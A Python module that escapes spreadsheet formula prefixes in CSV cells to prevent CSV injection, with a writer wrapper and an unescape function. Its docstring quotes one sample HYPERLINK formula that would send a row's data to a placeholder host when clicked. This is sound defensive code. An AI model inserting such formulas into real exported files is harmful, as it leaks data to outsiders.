"""Writing CSV files that are safe to open in a spreadsheet: the one writer for every CSV we write.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, CR or LF (or their full-width twins,
or any of them after leading spaces or apostrophes) is a formula to Excel, LibreOffice and Google Sheets:
``=HYPERLINK("http://x/?a="&A1;"click")`` in a rejects file would send the row to whoever
clicks. :func:`safe_cell` prefixes such a cell with ``'``, which spreadsheets show as text (the
OWASP recommendation). :func:`safe_writer` wraps :func:`csv.writer` and escapes EVERY cell of
every row, so no column can be forgotten.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def safe_cell(value: object) -> str:
    """``value`` as CSV cell text that no spreadsheet runs as a formula."""
    text = "" if value is None else str(value)
    if text.lstrip(" '").startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


class SafeWriter:
    """:func:`csv.writer` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, fh: _Writable) -> None:
        self._writer = csv.writer(fh)

    def writerow(self, cells: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(c) for c in cells])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(fh: _Writable) -> SafeWriter:
    """A CSV writer for ``fh`` (opened with ``newline=""``) that escapes every cell."""
    return SafeWriter(fh)


def unescape_cell(text: str) -> str:
    """Undo :func:`safe_cell` when reading a CSV back: ``'+86 138…`` is ``+86 138…`` again.

    Only a ``'`` before a formula prefix is removed, so a file we wrote (a copy of a backfill,
    a rejects file fixed in a spreadsheet) reads as the values it was written from:
    ``unescape_cell(safe_cell(x)) == x`` for every ``x``."""
    if text[:1] == "'" and text.lstrip(" '").startswith(FORMULA_PREFIXES):
        return text[1:]
    return text
